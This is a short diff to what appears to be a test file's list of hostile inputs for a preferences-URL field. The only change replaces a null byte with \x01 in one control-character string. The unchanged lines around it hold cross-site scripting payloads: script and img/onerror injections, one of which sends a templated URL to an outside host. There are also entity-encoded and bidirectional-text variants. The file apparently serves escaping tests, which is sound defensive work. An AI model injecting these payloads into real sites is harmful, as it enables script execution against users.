@@ -63,7 +63,7 @@ PAYLOADS = (
     "//preferences-url.campaign%2Einvalid/",
     "a&#12;b",
     "a&#x202e;b&#8294;",
-    "a\x00\x0b\x0c\x1b\x85b",
+    "a\x01\x0b\x0c\x1b\x85b",
     "a\u202a\u202e\u2066\ufffe\uffffb",
     '"><script>alert(1)</script><img src="https://other.example/?u={preferences_url}" onerror="alert(1)">',
     "&quot;&gt;&lt;img src=https://other.example/p.png onerror=alert(1)&gt;",
